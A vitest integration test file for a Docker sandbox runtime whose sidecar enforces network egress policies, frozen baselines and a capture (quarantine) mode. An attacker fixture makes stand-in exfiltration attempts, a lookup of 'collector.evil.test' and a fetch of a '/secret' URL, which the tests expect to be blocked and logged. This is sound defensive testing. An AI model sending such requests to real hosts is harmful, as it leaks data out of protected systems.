import { writeFile } from "node:fs/promises";
import { join } from "node:path";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { freezeBaseline, recordBaseline, serialiseBaseline } from "../../src/core/baseline/index.js";
import { isHangarError } from "../../src/core/errors.js";
import { selectorTerms } from "../../src/docker/labels.js";
import type { LifecycleEvent } from "../../src/core/events.js";
import { defaultRuntimeConfig } from "../../src/runtime/runtime-config.js";
import { Sandbox } from "../../src/runtime/sandbox.js";
import type { SandboxEvent } from "../../src/runtime/sandbox-events.js";
import { BASELINE_MOUNT_FILE, sidecarConfig, sidecarContainerSpec } from "../../src/runtime/sandbox-specs.js";
import { SidecarConfigSchema } from "../../src/sidecar/sidecar-config.js";
import { call, connection, T0 } from "../baseline/support/observations.js";
import { AttackerSession, DockerTestEnv, FIXTURES_IMAGE, LABEL_TEST_FILE, realSidecarSourceExists, waitFor } from "./support/docker-test-env.js";

/**
 * What the runtime does for replay and quarantine: a capture override and a frozen baseline
 * for the sidecar (copied beside the policy copy, which is mounted read-only), validated on
 * the host before any Docker object exists.
 */
const ATTACKER = { id: FIXTURES_IMAGE, entrypoint: ["node", "/fixtures/attacker.mjs"] };
const subnet = { subnet: "10.213.0.0/28", gateway: "10.213.0.1", sidecar: "10.213.0.2", server: "10.213.0.3" };
const id = { server: "mail", run: "r1", owner: "host:1" };

let env: DockerTestEnv;
let dir: string;

async function baselineFile(name: string, options: { server?: string; frozen?: boolean } = {}): Promise<string> {
  const server = options.server ?? `mail-${env.run}`;
  const learned = recordBaseline({ server }, [call("send_email", T0), ...connection("api.mail.test", 80, T0 + 10, ["send_email"])]);
  const file = join(dir, name);
  await writeFile(file, serialiseBaseline(options.frozen === false ? learned : freezeBaseline(learned, new Date(T0 + 60_000))));
  return file;
}

beforeAll(async () => {
  env = await DockerTestEnv.create();
  dir = await env.stateRoot();
}, 600_000);

afterAll(async () => {
  // What this file created names it, so a leftover in the suite's teardown says whose it is.
  const networks = await env.engine.listNetworks({ labels: selectorTerms({ run: env.run }) });
  expect(networks.map((n) => n.labels[LABEL_TEST_FILE])).toEqual(["test/docker/replay-sandbox-overrides.test.ts"]);
  await env?.cleanup();
  expect(await env.leftovers()).toEqual([]);
  // A late caller (a promise nobody awaited) is refused, instead of creating the network again after the check above.
  await expect(env.egressNetwork()).rejects.toThrow(/asked for after cleanup\(\)/);
  await expect(env.resolver()).rejects.toThrow(/asked for after cleanup\(\)/);
  expect(await env.leftovers()).toEqual([]);
}, 120_000);

describe("the sidecar's overrides, as specs", () => {
  it("capture and the baseline reach the sidecar's config, which its own schema accepts", () => {
    const runtime = defaultRuntimeConfig().runtime;
    expect(SidecarConfigSchema.parse(sidecarConfig({ subnet, runtime, capture: true, baseline: true }))).toMatchObject({ capture: true, baselineFile: BASELINE_MOUNT_FILE });
    expect(SidecarConfigSchema.parse(sidecarConfig({ subnet, runtime, capture: { ports: [80, 8080] } }))).toMatchObject({ capture: { ports: [80, 8080] } });
    const plain = SidecarConfigSchema.parse(sidecarConfig({ subnet, runtime }));
    expect(plain.capture).toBeUndefined();
    expect(plain.baselineFile).toBeUndefined();
    const spec = sidecarContainerSpec({ id, subnet, runtime, policyDir: "/tmp/p", capture: true, baseline: true });
    expect(JSON.parse(spec.env!["HANGAR_SIDECAR_CONFIG"]!)).toMatchObject({ capture: true, baselineFile: "/etc/hangar/baseline.json" });
    // The baseline travels in the policy folder: still one read-only mount.
    expect(spec.mounts).toEqual([{ source: "/tmp/p", target: "/etc/hangar", readOnly: true }]);
  });
});

describe("Sandbox.start with a baseline or a capture override", () => {
  it("refuses a learning baseline, another server's, or a missing one, before creating anything", async () => {
    const sandboxes = new Sandbox({ engine: env.engine, logger: env.logger });
    const { policy, file } = await env.policy(`mail-${env.run}`, { egress: { allow: [{ host: "*.test", ports: [80] }] } });
    const runtime = await env.runtimeConfig();
    const start = (baseline: string): Promise<unknown> =>
      sandboxes.start({ policy, policyFile: file, runtime, image: ATTACKER, run: env.run, stateDir: dir, baselineFile: baseline }).then(
        () => undefined,
        (err: unknown) => err,
      );
    const learning = await start(await baselineFile("learning.json", { frozen: false }));
    expect(isHangarError(learning, "HANGAR_CONFIG_INVALID")).toBe(true);
    expect((learning as Error).message).toMatch(/still learning; freeze it first/);
    const other = await start(await baselineFile("other.json", { server: "postmark" }));
    expect((other as Error).message).toMatch(/is for server postmark, not mail-/);
    const missing = await start(join(dir, "missing.json"));
    expect(isHangarError(missing, "HANGAR_CONFIG_INVALID")).toBe(true);
    expect((missing as Error).message).toMatch(/missing\.json: no such file/);
    // Nothing of a sandbox was created (this file's egress network and resolver are the test's own).
    const own = [`network ${runtime.runtime.egressNetwork}`, `container ${(await env.resolver()).name}`];
    expect((await env.leftovers()).filter((o) => !own.includes(o))).toEqual([]);
  });

  it.runIf(realSidecarSourceExists())("mounts the policy's own baseline.file (relative to the policy) and the sidecar enforces it", async () => {
    await baselineFile("policy-baseline.json");
    const { policy, file } = await env.policy(`mail-${env.run}`, { egress: { mode: "enforcing", allow: [{ host: "*.test", ports: [80] }] }, baseline: { file: "./policy-baseline.json" } });
    const events: SandboxEvent[] = [];
    await using box = await new Sandbox({ engine: env.engine, logger: env.logger }).start({
      policy,
      policyFile: file,
      runtime: await env.runtimeConfig(),
      image: ATTACKER,
      run: env.run,
      stateDir: dir,
      onEvent: (e) => events.push(e),
    });
    const started = events.find((e): e is LifecycleEvent => e.type === "lifecycle" && e.action === "started");
    expect(started?.detail).toMatchObject({ baseline: true, capture: false, mode: "enforcing" });
    const attacker = new AttackerSession(box.stdin, box.stdout);
    expect(await attacker.send({ op: "lookup", name: "collector.evil.test" })).toMatchObject({ ok: false });
    await waitFor(async () => events.find((e) => e.type === "dns" && e.name === "collector.evil.test" && e.verdict === "block" && e.reasons.includes("drift-new-dns-name")));
  });

  it.runIf(realSidecarSourceExists())("a policy's baseline.file that is still learning: the server runs, without drift checks", async () => {
    await baselineFile("policy-learning.json", { frozen: false });
    const { policy, file } = await env.policy(`mail-${env.run}`, { egress: { allow: [{ host: "*.test", ports: [80] }] }, baseline: { file: "policy-learning.json" } });
    const events: SandboxEvent[] = [];
    await using _box = await new Sandbox({ engine: env.engine, logger: env.logger }).start({
      policy,
      policyFile: file,
      runtime: await env.runtimeConfig(),
      image: ATTACKER,
      run: env.run,
      stateDir: dir,
      onEvent: (e) => events.push(e),
    });
    expect(events.find((e): e is LifecycleEvent => e.type === "lifecycle" && e.action === "started")?.detail).toMatchObject({ baseline: false });
  });

  it.runIf(realSidecarSourceExists())("capture: any name resolves to the sidecar and the attempt is recorded, whatever the policy allows", async () => {
    const { policy, file } = await env.policy(`capture-${env.run}`, { egress: { allow: [] } });
    const events: SandboxEvent[] = [];
    await using box = await new Sandbox({ engine: env.engine, logger: env.logger }).start({
      policy,
      policyFile: file,
      runtime: await env.runtimeConfig(),
      image: ATTACKER,
      run: env.run,
      stateDir: dir,
      capture: true,
      onEvent: (e) => events.push(e),
    });
    const attacker = new AttackerSession(box.stdin, box.stdout);
    expect(await attacker.send({ op: "lookup", name: "anything.example.org" })).toMatchObject({ ok: true, address: box.sidecarAddress });
    const fetched = await attacker.send({ op: "http", url: "http://anything.example.org/secret?k=v" });
    expect(fetched).toMatchObject({ ok: true, status: 403 });
    expect(String(fetched["body"])).toMatch(/quarantine \(capture mode\)/);
    await waitFor(async () =>
      events.find((e) => e.type === "egress" && e.name === "anything.example.org" && e.verdict === "block" && e.reasons[0] === "capture" && e.method === "GET" && e.url === "/secret?k"),
    );
  });
});
